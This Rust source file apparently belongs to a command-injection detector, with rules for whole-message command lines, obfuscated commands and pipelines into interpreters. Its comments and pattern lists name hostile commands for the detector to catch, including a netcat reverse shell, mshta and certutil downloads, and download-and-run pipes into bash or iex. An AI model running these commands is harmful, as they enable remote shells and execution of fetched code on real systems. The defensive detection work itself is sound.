//! A message that IS a command line: the command at the very start (after the quote that closes
//! the application's string, if any), and pipelines that feed an interpreter.
//!
//! People paste command lines in chat (`sudo apt-get update`, `ls -la /etc`), so a whole-message
//! command line counts only when it is of a dangerous kind: a probe (`nohup ifconfig`), a Windows
//! exec wrapper (`cmd /c whoami`, `mshta http://h`), a download (`certutil -urlcache ...`), a
//! timer (`Start-Sleep -s 5`), a reverse shell (`nc -e /bin/sh h 4444`), and the command line
//! must be the whole first segment (`rm -rf is dangerous` is prose).

use super::super::lexer::{is_blank, is_sep, read_command, Command, Word};
use super::super::vocab::Kind;
use super::judge::{has_sensitive, is_number, judge, known_word, resolved_name, shellish, Verdict};
use super::{fire, Rule};
use crate::inspect::normalize::Marks;
use crate::inspect::rules::RuleFilter;
use crate::inspect::search::find;

/// The command at the start of `s`.
pub(in crate::inspect::cmdi) fn leading_command(
    s: &[u8],
    cmd: &mut Command,
    rules: RuleFilter<'_>,
) -> Option<Rule> {
    let n = s.len();
    let start = s
        .iter()
        .position(|&b| !matches!(b, b'\'' | b'"') && !is_blank(b))
        .unwrap_or(n);
    read_command(s, start, false, known_word, cmd);
    let c = &*cmd;
    let v = judge(c);
    let name = resolved_name(&c.name);
    let windows_admin = matches!(name, b"net" | b"reg" | b"netsh");
    let whole = c.stop >= n || c.end != 0 || windows_admin;
    // Commands whose arguments are code or hosts, not paths: any argument will do.
    let free_arguments = matches!(
        name,
        b"net"
            | b"reg"
            | b"netsh"
            | b"perl"
            | b"python"
            | b"python3"
            | b"php"
            | b"ruby"
            | b"powershell"
            | b"pwsh"
            | b"cmd"
            | b"nc"
            | b"ncat"
            | b"netcat"
            | b"echo"
            | b"wmic"
            | b"schtasks"
            | b"sc"
    ) || matches!(
        super::super::vocab::kind(name),
        Some(Kind::Interpreter | Kind::Windows | Kind::PowerShell)
    );
    let args_shellish = free_arguments || c.args().all(|a| shellish(a) || is_number(a));
    // Listing or reading files is what people paste; only a sensitive file makes it an attack.
    let reader = matches!(
        name,
        b"ls" | b"dir" | b"cat" | b"tac" | b"more" | b"less" | b"head" | b"tail" | b"type"
    );
    // A Windows drive listed from its root (`dir c:\`, `dir c:\users`) is reconnaissance.
    let drive_listing = name == b"dir"
        && c.args()
            .any(|a| a.len() >= 3 && a[0].is_ascii_lowercase() && a[1] == b':' && a[2] == b'\\');
    let dangerous = !reader || drive_listing || c.args().any(has_sensitive);
    if v == Verdict::Attack && whole && args_shellish && dangerous {
        fire!(rules, "cmdi-command");
    }
    if (c.name.obfuscated || c.name.glob || c.ifs_blank) && v >= Verdict::Plausible {
        fire!(rules, "cmdi-obfuscated-command");
    }
    // A binary named by its absolute path with a command line: `/usr/bin/python3 -m x`.
    let system_dir = matches!(
        c.name.directory(),
        b"/bin/" | b"/usr/bin/" | b"/sbin/" | b"/usr/sbin/" | b"/usr/local/bin/"
    );
    if system_dir && v >= Verdict::Plausible && whole && c.nargs > 0 && args_shellish {
        fire!(rules, "cmdi-absolute-command");
    }
    None
}

/// Interpreters a pipeline can feed code to.
fn is_pipe_interpreter(name: &[u8]) -> bool {
    matches!(
        name,
        b"sh"
            | b"bash"
            | b"zsh"
            | b"dash"
            | b"ksh"
            | b"python"
            | b"python3"
            | b"perl"
            | b"ruby"
            | b"php"
            | b"node"
            | b"iex"
            | b"invoke-expression"
            | b"powershell"
            | b"pwsh"
            | b"cmd"
    )
}

/// A pipeline whose last command is an interpreter reading the pipe (`... | base64 -d | sh`,
/// `wget -O- http://h/x | bash`, `iwr http://h/x | iex`) and whose first command is a command
/// line that produces code: decode-and-run or download-and-run.
pub(in crate::inspect::cmdi) fn pipe_to_interpreter(
    s: &[u8],
    cmd: &mut Command,
    rules: RuleFilter<'_>,
) -> Option<Rule> {
    if !rules.allows("cmdi-pipe-to-shell") {
        return None;
    }
    let n = s.len();
    let mut from = 0;
    while let Some(p) = find(&s[from..], b"|").map(|p| p + from) {
        from = p + 1;
        if s.get(p + 1) == Some(&b'|') {
            from = p + 2;
            continue;
        }
        // The interpreter: its name, then only options, up to the end or a separator.
        let mut w = Word::default();
        let mut ifs = false;
        let at = super::super::lexer::skip_blanks(s, p + 1, &mut ifs);
        let mut end = super::super::lexer::read_word(s, at, false, true, &mut w);
        let mut name = resolved_name(&w);
        if name == b"sudo" {
            let mut w2 = Word::default();
            let at2 = super::super::lexer::skip_blanks(s, end, &mut ifs);
            end = super::super::lexer::read_word(s, at2, false, true, &mut w2);
            w = w2;
            name = resolved_name(&w);
        }
        if !is_pipe_interpreter(name) {
            continue;
        }
        let mut k = end;
        loop {
            k = super::super::lexer::skip_blanks(s, k, &mut ifs);
            if k < n && s[k] == b'-' {
                while k < n && !is_blank(s[k]) && !is_sep(s[k]) {
                    k += 1;
                }
                continue;
            }
            break;
        }
        if k < n && !is_sep(s[k]) {
            continue;
        }
        // The producer: the command that starts this pipeline.
        let seg_start = s[..p]
            .iter()
            .rposition(|&b| matches!(b, b';' | b'\n' | b'&' | b'`' | b'('))
            .map_or(0, |q| q + 1);
        let seg_start = seg_start
            + s[seg_start..p]
                .iter()
                .position(|&b| !matches!(b, b'\'' | b'"') && !is_blank(b))
                .unwrap_or(0);
        read_command(s, seg_start, false, known_word, cmd);
        let producer = resolved_name(&cmd.name);
        let produces_code = matches!(
            producer,
            b"echo"
                | b"printf"
                | b"curl"
                | b"wget"
                | b"fetch"
                | b"base64"
                | b"base32"
                | b"xxd"
                | b"cat"
                | b"iwr"
                | b"irm"
                | b"invoke-webrequest"
                | b"invoke-restmethod"
                | b"rev"
                | b"tr"
                | b"openssl"
                | b"nc"
                | b"ncat"
        ) && cmd.nargs > 0;
        if produces_code
            && (judge(cmd) >= Verdict::Plausible
                || matches!(producer, b"echo" | b"printf" | b"rev"))
        {
            return Some("cmdi-pipe-to-shell");
        }
    }
    None
}

/// An alias definition that names a command of a dangerous kind (`alias a=curl`,
/// `alias x='id'`), or one with options (`alias -p a=b`): shell code, not prose.
pub(in crate::inspect::cmdi) fn alias_definition(
    s: &[u8],
    marks: Marks,
    rules: RuleFilter<'_>,
) -> Option<Rule> {
    // A definition is `name=value`.
    if !marks.has(b'=') || !rules.allows("cmdi-alias") {
        return None;
    }
    let mut from = 0;
    while let Some(p) = find(&s[from..], b"alias").map(|p| p + from) {
        from = p + 5;
        let before = s[..p].trim_ascii_end();
        let at_command_position = before.iter().all(|&b| matches!(b, b'\'' | b'"' | b' '))
            || before.last().is_some_and(|&b| is_sep(b));
        if !at_command_position || !s.get(p + 5).is_some_and(|&b| is_blank(b)) {
            continue;
        }
        // Options, then `name=value`.
        let mut k = p + 5;
        let mut options = 0;
        loop {
            while k < s.len() && is_blank(s[k]) {
                k += 1;
            }
            if k < s.len() && matches!(s[k], b'-' | b'+') {
                options += 1;
                while k < s.len() && !is_blank(s[k]) {
                    k += 1;
                }
                continue;
            }
            break;
        }
        let rest = &s[k..s.len().min(k + 64)];
        let Some(eq) = rest.iter().position(|&b| b == b'=') else {
            continue;
        };
        if rest[..eq].iter().any(|&b| is_blank(b) || is_sep(b)) {
            continue;
        }
        let mut value = Word::default();
        super::super::lexer::read_word(s, k + eq + 1, false, true, &mut value);
        let dangerous = matches!(
            super::super::vocab::kind(resolved_name(&value)),
            Some(
                Kind::Probe | Kind::Network | Kind::Interpreter | Kind::Windows | Kind::PowerShell
            )
        );
        if dangerous || options > 0 {
            return Some("cmdi-alias");
        }
    }
    None
}
